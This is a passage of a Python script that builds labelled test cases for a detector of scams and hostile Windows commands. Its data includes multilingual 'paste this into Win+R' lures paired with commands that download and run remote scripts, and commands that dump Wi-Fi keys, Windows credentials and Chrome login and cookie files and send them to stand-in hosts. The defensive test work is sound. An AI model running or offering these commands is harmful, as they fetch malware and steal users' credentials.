        "Il tuo abbonamento si rinnova il 3/05 a 4,99 €. Se non desideri rinnovare, disattiva il rinnovo nell'app. Assistenza: {p}.",
        "Su devolución de 230,00 € está pendiente de abono y llegará a su cuenta en 10 días. No tiene que hacer nada. Información: {p}.",
    )
    for text, phone in itertools.product(
        genuine, ("+1 (555) 010-4477", "0800 555 0142", "+44 20 5550 0188")
    ):
        book.add("scam-genuine-phone", text.format(p=phone), "not_flagged", target="other")


# ---- orders to paste, in the languages of the pages that give them ----------------------------
STEPS = (
    "So beheben Sie den Fehler:\n1. Drücken Sie Win + X und wählen Sie „Terminal (Administrator)“.\n2. Fügen Sie den Befehl mit Strg + V ein und drücken Sie die Eingabetaste.\n{c}",
    "Bestätigung: Drücken Sie Windows + R, fügen Sie mit Strg + V ein und drücken Sie Eingabe.\n{c}",
    "Verificatie: druk op Win + R, plak de code met Ctrl + V en druk op Enter.\n{c}",
    "Doğrulama: Win + R tuşlarına basın, Ctrl + V ile yapıştırın ve Enter'a basın.\n{c}",
    "Weryfikacja: naciśnij Win + R, wklej kod (Ctrl + V) i naciśnij Enter.\n{c}",
    "Vérification : appuyez sur Win + R, collez avec Ctrl + V puis appuyez sur Entrée.\n{c}",
)
PASTED = (
    "irm https://fix.update-helfer.test/k | iex",
    'powershell -w h -c "iwr https://check.verify-kit.invalid/a.ps1 -UseB | iex"',
    "mshta https://cdn.human-check.test/v.hta",
)


def paste_steps(book: Book) -> None:
    for i, steps in enumerate(STEPS):
        for command in PASTED:
            text = steps.format(c=command)
            book.add("paste-steps-i18n", text, "malicious", "windows", "run_dialog", CAPTCHA)
        book.add("paste-steps-i18n", steps.format(c=PASTED[i % 3]), "flagged", "windows")
    for text in (
        "Um den Drucker einzurichten, drücken Sie Win + R, geben Sie control printers ein und drücken Sie die Eingabetaste.",
        "Drücken Sie Strg + V, um den kopierten Text in das Dokument einzufügen.",
        "Plak de tekst met Ctrl + V in het vak en klik op Opslaan.",
        "Appuyez sur Win + R, tapez %temp% et supprimez les fichiers temporaires.",
        "Metni Ctrl + V ile yapıştırın ve kaydedin.",
    ):
        book.add("paste-steps-i18n", text, "not_flagged", "windows")


# ---- saved secrets read and sent ----------------------------------------------------------------
def saved_secrets(book: Book) -> None:
    reads = (
        "netsh wlan show profile name=* key=clear",
        "netsh wlan show profiles key=clear",
        "cmdkey /list",
        'vaultcmd /listcreds:"Windows Credentials" /all',
    )
    sends = (
        "$k = {r} | Out-String; irm https://relay.wlan-sync.test/c -Method Post -Body $k",
        "{r} | curl.exe -d @- https://198.51.100.14/w",
        '$d = ({r}) -join "`n"; iwr https://hooks.relay-chat.invalid/x -Method POST -Body @{{c=$d}}',
        "{r} > $env:TEMP\\w.txt; (New-Object Net.WebClient).UploadFile('https://drop.keys.invalid/u', \"$env:TEMP\\w.txt\")",
    )
    for read, send in itertools.product(reads, sends):
        book.add(
            "saved-secrets-sent", send.format(r=read), "malicious", "windows", "terminal", STRANGER
        )
    for path in ("Login Data", "Network\\Cookies", "Local State"):
        text = (
            f'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\{path}" $env:TEMP\\ld; '
            'curl.exe -F "f=@$env:TEMP\\ld" https://up.grab.invalid/'
        )
        book.add("saved-secrets-sent", text, "malicious", "windows", "terminal", STRANGER)
    for text in (
        'netsh wlan show profile name="Office" key=clear',
        "netsh wlan show profiles",
        'netsh wlan show profile name="Office" key=clear | findstr "Key Content"',
        "cmdkey /list:TERMSRV/*",
        "vaultcmd /list",
        "netsh wlan export profile key=clear folder=C:\\Backup\\wifi",
    ):
        book.add("saved-secrets-sent", text, "not_flagged", "windows", "terminal")


def build() -> list[dict[str, str]]:
    book = Book()
    console(book)
    device_codes(book)
    scams(book)
    windows(book)
    bulk_lookalikes(book)
    paste_steps(book)
    saved_secrets(book)
    ids = [c["id"] for c in book.cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return book.cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
